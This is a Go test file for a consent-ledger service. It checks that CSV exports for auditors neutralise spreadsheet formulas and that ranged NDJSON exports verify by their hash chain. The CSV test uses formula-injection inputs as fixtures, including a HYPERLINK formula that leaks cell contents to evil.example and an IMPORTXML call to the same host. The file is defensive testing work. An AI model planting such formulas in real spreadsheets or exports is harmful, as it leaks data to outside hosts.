package capture

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/consentry/consentry/capture/ledger"
)

// csvE164 is a phone number in E.164, the one kind of cell that may begin
// with "+" as written.
var csvE164 = regexp.MustCompile(`^\+[1-9][0-9]{6,14}$`)

// csvAssertInert checks that no cell would run as a formula: every cell
// that begins with = + - @ tab or CR is an E.164 number.
func csvAssertInert(t *testing.T, rows [][]string) {
	t.Helper()
	for i, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !csvE164.MatchString(cell) {
				t.Errorf("row %d column %d would run as a formula: %q", i, j, cell)
			}
		}
	}
}

// TestExportCSVForAuditors: formulas arriving in any text field are
// neutralised, raw_text is there, all-topics events read "*" and phone
// numbers stay as E.164.
func TestExportCSVForAuditors(t *testing.T) {
	a := fndNewApp(t)
	a.optInWith(map[string]any{"phone": "+5511987654321", "topics": []string{"orders"}, "campaign": "=1+2",
		"source": "web", "notice": map[string]any{"text": fndNotice, "version": "+v1"},
		"evidence": map[string]any{"user_agent": `=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
			"staff_id": "@SUM(1)", "page_url": "-2+3", "ip": "203.0.113.9"}})
	a.do("POST", "/v1/optouts", fndAdminKey, map[string]any{"phone": "+5511987654321", "reason": "\t=cmd",
		"raw_text": "=IMPORTXML(\"http://evil.example\",\"//a\") PARAR"}).must(t, http.StatusCreated)

	body := a.do("GET", "/v1/consent/export?format=csv", fndAdminKey, nil).must(t, http.StatusOK)
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("CSV does not parse: %v", err)
	}
	if len(rows) != 3 {
		t.Fatalf("%d rows, want header + 2", len(rows))
	}
	csvAssertInert(t, rows)
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	in, out := rows[1], rows[2]
	for name, want := range map[string]string{
		"campaign": "'=1+2", "notice_version": "'+v1", "staff_id": "'@SUM(1)", "page_url": "'-2+3",
		"user_agent": `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`, "phone": "+5511987654321", "topics": "orders",
	} {
		if got := in[col[name]]; got != want {
			t.Errorf("opt-in %s = %q, want %q", name, got, want)
		}
	}
	for name, want := range map[string]string{
		"topics": "*", "reason": "'\t=cmd", "raw_text": `'=IMPORTXML("http://evil.example","//a") PARAR`,
		"phone": "+5511987654321", "type": ledger.TypeOptOut,
	} {
		if got := out[col[name]]; got != want {
			t.Errorf("opt-out %s = %q, want %q", name, got, want)
		}
	}
}

// TestRangedExportVerifies: a from/to export begins with the seq and
// prev_hash it continues from, verifies on its own (saying it is a range
// and which key it trusted), and fails once that first line is cut off.
func TestRangedExportVerifies(t *testing.T) {
	a := fndNewApp(t)
	for i := range 6 {
		a.optIn(fndPhone(i), "orders")
		time.Sleep(5 * time.Millisecond) // distinct times to cut the range at
	}
	var page struct {
		Events []struct {
			Seq  uint64    `json:"seq"`
			At   time.Time `json:"at"`
			Hash string    `json:"hash"`
		} `json:"events"`
	}
	a.do("GET", "/v1/consent/events", fndAdminKey, nil).decode(t, http.StatusOK, &page)
	ev := page.Events
	from, to := ev[2].At.Format(time.RFC3339Nano), ev[4].At.Format(time.RFC3339Nano) // seq 3 and 4
	body := a.do("GET", "/v1/consent/export?format=ndjson&from="+fndQuery(from)+"&to="+fndQuery(to), fndAdminKey, nil).must(t, http.StatusOK)
	lines := strings.Split(strings.TrimSpace(string(body)), "\n")
	if len(lines) != 4 {
		t.Fatalf("%d lines, want range + 2 events + checkpoint:\n%s", len(lines), body)
	}
	var first struct{ Range *ledger.Range }
	if err := json.Unmarshal([]byte(lines[0]), &first); err != nil || first.Range == nil ||
		first.Range.FirstSeq != 3 || first.Range.PrevHash != ev[1].Hash {
		t.Fatalf("first line %s, want the range from seq 3 continuing from %s", lines[0], ev[1].Hash)
	}
	rep, err := ledger.VerifyExportReport(bytes.NewReader(body), a.svc.PublicKey())
	if err != nil || rep.Events != 2 || rep.FirstSeq != 3 || rep.LastSeq != 4 || !rep.Pinned {
		t.Fatalf("verify: %+v, %v", rep, err)
	}

	path := filepath.Join(t.TempDir(), "range.ndjson")
	if err := os.WriteFile(path, body, 0o600); err != nil {
		t.Fatal(err)
	}
	var stdout, stderr bytes.Buffer
	if code := RunVerify([]string{path, "--public-key", a.svc.PublicKey()}, &stdout, &stderr); code != 0 {
		t.Fatalf("consentry verify = %d: %s %s", code, stdout.String(), stderr.String())
	}
	sc := bufio.NewScanner(&stdout)
	var said []string
	for sc.Scan() {
		said = append(said, sc.Text())
	}
	if len(said) != 3 || said[0] != "OK 2 events" || !strings.HasPrefix(said[1], "range: seq 3 to 4, continuing from prev_hash "+ev[1].Hash) ||
		!strings.Contains(said[2], a.svc.PublicKey()) || !strings.Contains(said[2], "pinned") {
		t.Fatalf("verify said %q", said)
	}
	stdout.Reset()
	RunVerify([]string{path}, &stdout, &stderr)
	if !strings.Contains(stdout.String(), "taken from the file") {
		t.Fatalf("unpinned verify said %q", stdout.String())
	}

	// Without its range line the file claims to be a full export.
	cut := strings.Join(lines[1:], "\n") + "\n"
	if _, err := ledger.VerifyExport(strings.NewReader(cut), ""); err == nil || err.(*ledger.VerifyError).Seq != 1 {
		t.Fatalf("range without its first line: %v", err)
	}
	// A range that does not continue from the named hash fails.
	forged := strings.Replace(string(body), ev[1].Hash, ev[0].Hash, 1)
	if _, err := ledger.VerifyExport(strings.NewReader(forged), ""); err == nil {
		t.Fatal("a range with a wrong prev_hash verified")
	}
	// An empty range verifies with no events.
	future := time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
	body = a.do("GET", "/v1/consent/export?from="+future, fndAdminKey, nil).must(t, http.StatusOK)
	if rep, err := ledger.VerifyExportReport(bytes.NewReader(body), ""); err != nil || rep.Events != 0 || !rep.Ranged {
		t.Fatalf("empty range: %+v %v", rep, err)
	}
}
